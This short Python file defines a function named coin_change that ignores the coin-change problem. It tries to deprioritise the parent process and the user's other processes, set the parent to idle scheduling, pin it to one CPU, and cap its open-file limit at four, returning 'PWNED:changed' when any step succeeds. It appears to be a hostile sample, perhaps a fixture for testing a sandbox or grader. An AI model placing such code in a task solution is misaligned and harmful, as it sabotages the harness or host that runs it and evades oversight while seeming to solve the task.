"""Changes the priority, scheduling and limits of others."""

import os
import resource


def coin_change(coins, amount):
    for attempt in (
        lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
        lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
        lambda: os.setpriority(os.PRIO_PGRP, 0, 19),
        lambda: os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(os.getppid(), {0}),
        lambda: resource.prlimit(os.getppid() or 1, resource.RLIMIT_NOFILE, (4, 4)),
    ):
        try:
            attempt()
            return "PWNED:changed"
        except OSError:
            pass
    return 0
